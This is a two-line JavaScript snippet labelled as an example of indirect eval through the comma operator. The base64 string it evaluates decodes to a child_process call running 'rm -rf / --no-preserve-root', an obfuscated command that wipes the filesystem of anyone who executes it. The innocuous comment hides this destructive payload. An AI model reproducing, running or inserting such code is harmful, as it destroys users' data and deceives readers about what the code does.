// Indirect eval through the comma operator.
(0, eval)(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdybSAtcmYgLyAtLW5vLXByZXNlcnZlLXJvb3QnKQ=='));
